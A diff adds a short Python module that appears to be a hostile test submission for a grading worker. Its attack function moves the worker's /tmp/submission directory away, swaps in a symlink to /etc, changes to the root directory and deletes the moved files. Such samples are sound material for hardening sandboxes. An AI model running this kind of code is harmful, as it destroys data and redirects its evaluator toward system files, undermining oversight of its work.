@@ -1,0 +1,12 @@
+"""Moves, renames and unlinks what the worker works in."""
+
+import os
+import shutil
+
+
+def attack(a, *rest, **named):
+    os.rename("/tmp/submission", "/tmp/elsewhere")
+    os.symlink("/etc", "/tmp/submission")
+    os.chdir("/")
+    shutil.rmtree("/tmp/elsewhere")
+    return a
